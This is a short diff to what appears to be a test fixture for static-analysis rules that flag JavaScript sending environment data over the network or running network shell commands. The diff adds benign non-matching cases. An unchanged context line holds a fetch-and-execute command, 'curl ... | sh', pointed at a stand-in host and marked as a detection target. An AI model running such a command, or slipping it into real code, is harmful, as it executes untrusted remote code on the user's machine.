@@ -49,6 +49,13 @@ async function notCred(url) {
   await fetch(url, { method: "POST", body: readme });
 }
 
+function runTests() {
+  // ok: js-env-sent-over-network
+  cp.execSync("npm test", { env: { ...process.env, CI: "1" }, stdio: "inherit" });
+  // ok: js-env-sent-over-network
+  return cp.spawn("node", ["server.js"], { env: process.env });
+}
+
 function install() {
   // ruleid: js-child-process-network-shell
   cp.execSync("curl -fsSL https://x.example/i.sh | sh");
